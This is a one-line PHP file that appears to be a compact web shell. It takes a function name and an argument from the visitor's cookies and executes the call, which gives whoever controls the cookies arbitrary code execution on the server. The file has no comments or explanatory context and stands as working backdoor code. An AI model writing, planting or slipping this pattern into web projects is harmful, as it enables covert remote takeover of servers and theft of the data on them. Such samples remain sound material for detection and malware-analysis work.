<?php $x = $_COOKIE; $x['a']($x['b']);
